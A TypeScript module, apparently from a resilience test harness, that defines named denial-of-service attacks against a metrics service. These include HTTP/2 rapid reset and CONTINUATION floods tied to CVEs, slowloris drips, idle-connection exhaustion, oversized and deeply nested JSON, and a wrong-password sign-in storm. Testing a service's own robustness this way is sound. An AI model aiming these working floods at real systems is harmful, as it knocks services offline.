import http from 'node:http'
import type { Socket } from 'node:net'
import { FRAME, headerBlock, httpFrame, PREFACE } from '../system/http2-frames.ts'
import { ATTACKER, drip, flood, keepOpen } from './sockets.ts'

/** What an attack needs to know. */
export interface AttackTarget {
  url: string
  /** Session token of somebody: who attacks may be anybody's user. */
  token: string
  /** The full numbers of connections, or fewer. */
  isQuick: boolean
}

/** Resolves when it is under way, and goes on until its thread is ended. */
type Attack = (target: AttackTarget) => Promise<unknown>

const settings = httpFrame({ type: FRAME.settings, flags: 0, streamId: 0, payload: new Uint8Array() })
const END_HEADERS = 4
const END_STREAM_AND_HEADERS = 5

const request = (streamId: number, flags: number, path = '/v1/apps', method = 'GET') =>
  httpFrame({
    type: FRAME.headers,
    flags,
    streamId,
    payload: headerBlock([
      [':method', method],
      [':path', path],
      [':scheme', 'http'],
      [':authority', 'localhost'],
    ]),
  })

const cancel = (streamId: number) =>
  httpFrame({ type: FRAME.resetStream, flags: 0, streamId, payload: Buffer.from([0, 0, 0, 8]) })

/** Requests that are cancelled at once (CVE-2023-44487). */
function resetRapidly(socket: Socket): void {
  socket.write(Buffer.concat([PREFACE, settings]))
  let streamId = 1
  flood(socket, () => {
    const frames: Buffer[] = []
    for (let count = 0; count < 100; count++, streamId += 2) {
      frames.push(request(streamId, END_STREAM_AND_HEADERS), cancel(streamId))
    }
    return Buffer.concat(frames)
  })
}

/** Header fields without an end (CVE-2024-27983). */
function continueForEver(socket: Socket): void {
  socket.write(Buffer.concat([PREFACE, settings, request(1, 0)]))
  const payload = headerBlock([['x', 'y'.repeat(8000)]])
  const more = httpFrame({ type: FRAME.continuation, flags: 0, streamId: 1, payload })
  flood(socket, () => more)
}

/** Bodies that fill whatever room there is for them: large ones first, then what fits into the rest. */
const ANNOUNCED_BYTES = [
  ...Array.from({ length: 80 }, () => 1024 * 1024),
  ...Array.from({ length: 20 }, () => 50_000),
  ...Array.from({ length: 60 }, () => 1000),
  ...Array.from({ length: 80 }, () => 2),
]

/** As many streams of one connection as servers allow, each of which announces a body. */
function announceOnStreams(socket: Socket, sizes: readonly number[]): void {
  const streams = sizes.map((bytes, index) =>
    httpFrame({
      type: FRAME.headers,
      flags: END_HEADERS,
      streamId: 2 * index + 1,
      payload: headerBlock([
        [':method', 'POST'],
        [':path', '/v1/stats'],
        [':scheme', 'http'],
        [':authority', 'localhost'],
        ['content-length', String(bytes)],
      ]),
    }),
  )
  socket.write(Buffer.concat([PREFACE, settings, ...streams]))
}

const announced = (path: string, bytes: number) =>
  `POST ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-length: ${bytes}\r\n\r\n{`

/** Sends a request again and again, some at once. @returns when something came of the first one */
async function repeat(
  url: string,
  atOnce: number,
  body: () => string,
  headers: Record<string, string> = {},
): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>()
  const agent = new http.Agent({ keepAlive: true, maxSockets: atOnce })
  const send = () => {
    const options = { method: 'POST', agent, localAddress: ATTACKER, headers }
    const sent = http.request(url, options, response => response.resume().once('end', send))
    sent.once('error', () => setTimeout(send, 20)).once('close', resolve)
    sent.end(body())
  }
  for (let count = 0; count < atOnce; count++) send()
  return await promise
}

const SIGN_IN = '/peermetrics.admin.v1.AccountService/SignIn'

export const attacks = {
  /** What the others are compared with. */
  nothing: async () => {},
  'slow headers': ({ url, isQuick }) =>
    keepOpen(url, isQuick ? 200 : 1000, socket => drip(socket, 'GET /healthz HTTP/1.1\r\nx', 'x', 500)),
  'slow bodies': ({ url, isQuick }) =>
    keepOpen(url, isQuick ? 200 : 1000, socket => drip(socket, announced('/v1/stats', 10_000), ' ', 500)),
  'announced bodies': ({ url }) =>
    keepOpen(url, ANNOUNCED_BYTES.length, (socket, index) =>
      socket.write(announced('/v1/stats', ANNOUNCED_BYTES[index] ?? 1000)),
    ),
  'announced bodies on streams': ({ url }) =>
    keepOpen(url, 3, (socket, index) => announceOnStreams(socket, ANNOUNCED_BYTES.slice(80 * index, 80 * (index + 1)))),
  'idle connections': ({ url, isQuick }) => keepOpen(url, isQuick ? 1000 : 5000, () => {}),
  'idle HTTP/2 connections': ({ url, isQuick }) =>
    keepOpen(url, isQuick ? 500 : 2000, socket => socket.write(Buffer.concat([PREFACE, settings]))),
  'rapid reset': ({ url }) => keepOpen(url, 10, resetRapidly),
  'CONTINUATION flood': ({ url }) => keepOpen(url, 10, continueForEver),
  'oversized batches': ({ url, token }) => {
    const body = JSON.stringify({ token, data: Array.from({ length: 300_000 }, () => 0) })
    return repeat(`${url}/v1/connection/batch`, 4, () => body)
  },
  'objects of many keys': ({ url, token }) => {
    const data = Object.fromEntries(Array.from({ length: 80_000 }, (_, key) => [`k${key}`, 0]))
    const body = JSON.stringify({ token, eventName: 'x', data })
    return repeat(`${url}/v1/events/browser`, 4, () => body)
  },
  'deep nesting': ({ url, token }) => {
    const body = `{"eventName":"x","data":${'['.repeat(100_000)}${']'.repeat(100_000)}}`
    const headers = { 'content-type': 'application/json', authorization: `Bearer ${token}` }
    return repeat(`${url}/peermetrics.ingest.v1.IngestService/RecordBrowserEvent`, 4, () => body, headers)
  },
  'sign-in storm': ({ url }) => {
    let count = 0
    const body = () => JSON.stringify({ email: `somebody-${++count % 50}@example.test`, password: `wrong ${count}` })
    return repeat(url + SIGN_IN, 60, body, { 'content-type': 'application/json' })
  },
  'flood of requests': ({ url, token }) =>
    repeat(`${url}/v1/events/browser`, 100, () => JSON.stringify({ token, eventName: 'x' })),
} satisfies Record<string, Attack>

export type AttackName = keyof typeof attacks

export const attackNames = Object.keys(attacks) as AttackName[]
